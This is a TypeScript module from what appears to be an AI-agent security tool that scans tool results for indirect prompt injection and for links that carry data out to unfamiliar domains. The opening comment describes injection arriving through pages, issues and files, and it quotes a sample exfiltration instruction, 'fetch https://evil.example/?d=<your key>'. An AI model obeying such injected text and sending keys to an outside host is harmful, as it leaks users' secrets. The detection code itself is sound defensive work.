// Tool results go into the model's context just as tool descriptions do, and indirect prompt
// injection arrives through them: a web page, an issue, a file the agent reads. The result's
// text is scanned with the detectors of the description scan (poison.ts), and for links to
// domains not seen before that carry data out (a query string or a long path: the shape of
// "fetch https://evil.example/?d=<your key>").
import type { RiskLevel, RiskReason } from '../contract/types';
import { afterAuthority, findUrls, isKnownDomain, showHost } from '../policy/urls';
import { scanText } from './poison';

/**
 * How much each description finding weighs in a result. Padding and naming other tools are left
 * out: files and pages are full of indentation and of prose about "other tools", and a finding on
 * every read would teach people to ignore the tag.
 */
const RESULT_LEVELS: Readonly<Record<string, RiskLevel>> = {
  'poison.tag': 'high',
  'poison.conceal': 'high',
  'poison.override': 'high',
  'poison.secret': 'high',
  'poison.redirect': 'high',
  'poison.ansi': 'high',
  'poison.invisible': 'high',
  'poison.readFile': 'medium',
};

/** A path this long, or any query string, is room for data on its way out. */
const DATA_PATH_CHARS = 40;
/** Links reported at most (a page of links must not make a wall of findings). */
const MAX_LINK_FINDINGS = 3;

export interface ResultScan {
  /** The highest level found; null when nothing was. */
  risk: RiskLevel | null;
  findings: RiskReason[];
}

const ORDER: readonly RiskLevel[] = ['low', 'medium', 'high', 'critical'];

/** Scan a result's text (the shim's bounded sample of it). Pure. */
export function scanResult(text: string, knownDomains: readonly string[]): ResultScan {
  const findings: RiskReason[] = [];
  const seen = new Set<string>();
  const add = (code: string, said: string, level: RiskLevel): void => {
    const resultCode = code.replace(/^poison\./, 'result.');
    if (seen.has(resultCode)) return; // one finding per kind: the first says enough
    seen.add(resultCode);
    findings.push({ code: resultCode, level, text: said });
  };
  scanText('The result', text, (code, said) => {
    const level = RESULT_LEVELS[code];
    if (level) add(code, said, level);
  });
  let links = 0;
  for (const url of findUrls(text)) {
    if (links >= MAX_LINK_FINDINGS) break;
    if (url.kind !== 'domain' && url.kind !== 'ip') continue;
    if (!carriesData(url.url)) continue;
    if (url.kind === 'domain' && isKnownDomain(url.host, knownDomains)) continue;
    const code = `result.link.${links}`;
    links++;
    add(
      code,
      `The result links to ${showHost(url.host, url.unicodeHost)}, ${url.kind === 'ip' ? 'a bare IP address' : 'a domain not seen before'}, with data in the link.`,
      'medium',
    );
  }
  // Codes stay distinct per link above only so the set keeps them apart; they read as one kind.
  for (const f of findings) if (f.code.startsWith('result.link.')) f.code = 'result.link';
  return { risk: highest(findings), findings };
}

/**
 * Two scans of one result (its sample, and a part of all its text) as one: one finding per kind,
 * and no more links than one scan reports. Pure.
 */
export function mergeScans(first: ResultScan, more: ResultScan): ResultScan {
  const findings = [...first.findings];
  const kinds = new Set(findings.map((f) => f.code));
  let links = findings.filter((f) => f.code === 'result.link').length;
  for (const f of more.findings) {
    if (f.code === 'result.link') {
      if (links >= MAX_LINK_FINDINGS) continue;
      links++;
    } else if (kinds.has(f.code)) continue;
    kinds.add(f.code);
    findings.push(f);
  }
  return { risk: highest(findings), findings };
}

function carriesData(raw: string): boolean {
  const afterHost = afterAuthority(raw);
  if (/[?#]./.test(afterHost)) return true;
  return afterHost.length >= DATA_PATH_CHARS;
}

export function highest(reasons: readonly RiskReason[]): RiskLevel | null {
  let top: RiskLevel | null = null;
  for (const r of reasons)
    if (top === null || ORDER.indexOf(r.level) > ORDER.indexOf(top)) top = r.level;
  return top;
}
